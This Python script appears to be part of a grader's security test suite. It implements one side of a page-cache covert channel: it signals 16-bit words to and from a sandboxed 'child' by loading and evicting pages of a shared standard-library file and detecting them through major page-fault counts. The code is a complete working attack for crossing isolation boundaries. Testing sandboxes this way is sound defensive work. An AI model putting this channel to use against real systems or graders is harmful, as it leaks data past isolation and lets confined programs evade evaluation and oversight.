"""The accomplice of the page-cache attack (tests/test_attacks.py::test_page_cache_channel_*), run as an
ordinary account of the machine (`nobody`) that can read the grader's standard library: no privilege, no
file of the teacher's. Ported from the red team's finding (findings/page-cache-channel).

Both directions go through the page cache of STDLIB/pydoc_data/topics.py, a page being a bit (in memory:
1). Nothing is timed: whether a page was in memory is told by the count of this process's major page
faults (getrusage), a page is loaded by touching it through a mapping (MADV_RANDOM: nothing read ahead)
and let go with posix_fadvise(DONTNEED), which needs only a descriptor opened for reading.
- to the child: pages 0, 8, ..., 120 hold WORD, written again every 0.2 s (after the whole file is let go);
- from the child: pages 130, 133, ..., 175 (16 bits), page 129 meaning "ready".

Usage: python page_cache_accomplice.py STDLIB WORD SECONDS; prints `opened`, then a line per word received.
"""

import mmap
import os
import resource
import sys
import time

PAGE = 4096
READY, DATA = 129, [130 + 3 * bit for bit in range(16)]


def main() -> None:
    stdlib, word, seconds = sys.argv[1], int(sys.argv[2], 0), float(sys.argv[3])
    fd = os.open(os.path.join(stdlib, "pydoc_data", "topics.py"), os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    pages = mmap.mmap(fd, 0, prot=mmap.PROT_READ)
    pages.madvise(mmap.MADV_RANDOM)
    print("opened", flush=True)

    def faults() -> int:
        return resource.getrusage(resource.RUSAGE_SELF).ru_majflt

    def resident(page: int) -> bool:
        """Whether `page` was in memory (reading it loads it: the whole file is let go after each round)."""
        before = faults()
        pages[page * PAGE]
        return faults() == before

    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if resident(READY):  # receive
            got = sum(resident(page) << bit for bit, page in enumerate(DATA))
            print(f"received {got:#06x}", flush=True)
        # The whole file, not page by page: a reader with readahead (a copy of the file) loads pages in
        # folios of several, which letting one page go does not split; and a fault maps the neighbours
        # already in memory too, so that our whole mapping goes first (a mapped page cannot be let go).
        pages.madvise(mmap.MADV_DONTNEED)
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        for bit in range(16):  # send (through the mapping: a read would read ahead)
            if word >> bit & 1:
                resident(bit * 8)
        time.sleep(0.2)


if __name__ == "__main__":
    main()
